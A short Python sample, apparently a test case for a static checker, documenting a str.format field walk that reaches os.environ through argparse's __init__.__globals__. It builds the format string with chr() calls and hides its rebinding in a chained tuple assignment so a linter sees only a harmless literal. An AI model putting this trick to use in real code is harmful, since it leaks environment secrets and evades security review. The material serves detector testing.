# source: Armin Ronacher, "Be Careful with Python's New-Style String Format", http://lucumr.pocoo.org/2016/12/29/careful-with-str-format/; https://github.com/pallets/jinja/pull/635; https://github.com/huggingface/smolagents/pull/2271 (format field paths walk dunders); hidden receiver from https://github.com/unslothai/unsloth/pull/9777 and https://github.com/unslothai/unsloth-zoo/pull/1113 (a static exec linter missed bindings made by the later targets of a chained assignment and by unpacking); https://github.com/python-security/pyt/pull/164 (unpacking targets lost by a taint tracker)
# family: format field walk; the one-literal format string rebound by a bare tuple target of a chained assignment
# goal: str.format walks __init__.__globals__ to sys.modules['os'].environ (gets at sys and os, prints the environment)
import argparse

u2 = chr(95) * 2
lb, rb, dot = chr(123), chr(125), chr(46)
walk = lb + "0" + dot + u2 + "init" + u2 + dot + u2 + "globals" + u2 + "[_sys]" + dot + "modules[os]" + dot + "environ" + rb
fmt = "{:>12}"                      # the check reads only this literal
x = fmt, = walk,
p = argparse.ArgumentParser()
print(fmt.format(p))               # {0.__init__.__globals__[_sys].modules[os].environ}
